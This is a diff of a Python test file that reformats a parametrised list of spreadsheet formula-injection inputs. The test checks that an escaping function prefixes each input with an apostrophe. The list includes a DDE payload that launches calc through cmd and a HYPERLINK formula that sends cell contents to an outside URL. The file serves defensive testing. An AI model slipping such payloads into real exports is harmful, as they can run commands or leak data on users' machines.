@@ -29,35 +29,12 @@ def test_escaping_only_adds_an_apostrophe(text):
 @each(
     "text",
     [
-        "=1+1",
-        '=HYPERLINK("http://example.org/?"&A1)',
-        "+1+1",
-        "-1+1",
-        "@SUM(A1)",
-        "\t=1",
-        "\ttext",
-        "\rtext",
-        "\ntext",
-        "  =1+1",
-        '"=1+1"',
-        "'=1+1",
-        "“=1+1”",
-        "\u200b=1",
-        "\ufeff=1",
-        "\u00a0=1",
-        "＝1+1",
-        "＋1",
-        "－1+1",
-        "＠SUM(A1)",
-        "-",
-        "--",
-        "-1.5.2",
-        "+cmd|' /C calc'!A0",
-        "=1\n",
-        "-1\n",
-        "- a list",
+        "=1+1", '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1",
+        "\ttext", "\rtext", "\ntext", "  =1+1", '"=1+1"', "'=1+1", "“=1+1”", "\u200b=1", "\ufeff=1",
+        "\u00a0=1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "-", "--", "-1.5.2", "+cmd|' /C calc'!A0",
+        "=1\n", "-1\n", "- a list",
     ],
-)
+)  # fmt: skip
 def test_possible_formulas_are_escaped(text):
     assert escaped(text) == f"'{text}"
 
